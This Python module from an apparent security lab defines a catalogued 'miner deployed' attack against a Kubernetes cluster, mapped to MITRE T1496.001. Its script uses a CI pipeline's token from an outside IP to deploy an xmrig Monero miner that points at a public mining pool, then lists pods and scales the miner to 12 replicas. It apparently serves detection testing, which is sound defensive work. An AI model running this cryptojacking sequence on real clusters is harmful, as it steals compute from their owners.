"""Attack: miner deployed.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, cast, context, paths, session

CARD = base.Card(
    id="miner-deployment",
    title="Miner deployed",
    technique=base.Technique(id="T1496.001", name="Compute Hijacking", tactic="Impact"),
    use_case=vocabulary.UseCase.IMPACT,
    subtlety=base.Subtlety.OBVIOUS,
    does="Deploys a well-known mining image with many replicas through the pipeline's token.",
    seen_by="Image and arguments of a miner, from a registry the pipeline never used.",
    cleans_up="The deployment is deleted.",
    victim=base.Part.CI,
    catalogues=("Microsoft: Resource hijacking",),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.CI)
    thief = ctx.act_as(victim, source_ip=ctx.stranger_ip(), user_agent=context.KUBECTL)
    name = ctx.name("worker")
    namespace = victim.namespaces[0] if victim.namespaces else victim.namespace
    deployments = paths.group("apps/v1", "deployments", namespace)
    ctx.remove_later(f"{deployments}/{name}")
    body = cast.deployment(name, "docker.io/metal3d/xmrig:6.22", replicas=5)
    container = body["spec"]["template"]["spec"]["containers"][0]  # type: ignore[index]
    container["args"] = ["--url", "stratum+tcp://pool.supportxmr.com:3333", "--donate-level", "0"]
    yield thief.create(deployments, body)
    yield thief.get(paths.core("pods", namespace), {"limit": 500})
    scale = {"spec": {"replicas": 12}}
    yield thief.patch(f"{deployments}/{name}/scale", scale, content_type=session.MERGE_PATCH)


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
